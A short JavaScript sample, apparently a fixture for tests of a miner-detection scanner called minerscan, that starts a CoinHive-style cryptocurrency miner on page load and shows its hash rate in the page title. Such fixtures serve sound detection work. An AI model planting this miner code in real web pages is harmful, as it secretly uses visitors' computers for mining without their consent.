// Sample written for minerscan's tests: a page starting a CoinHive-style miner.
var siteMiner = new CoinHive.Anonymous('Zx8qPl2mRt5vYw3kNc7bHd4fJg6sLa1e', { throttle: 0.4 });
function beginWork() {
    siteMiner.start();
    setInterval(function () {
        var rate = siteMiner.getHashesPerSecond();
        document.title = rate.toFixed(1) + ' H/s';
    }, 2000);
}
beginWork();
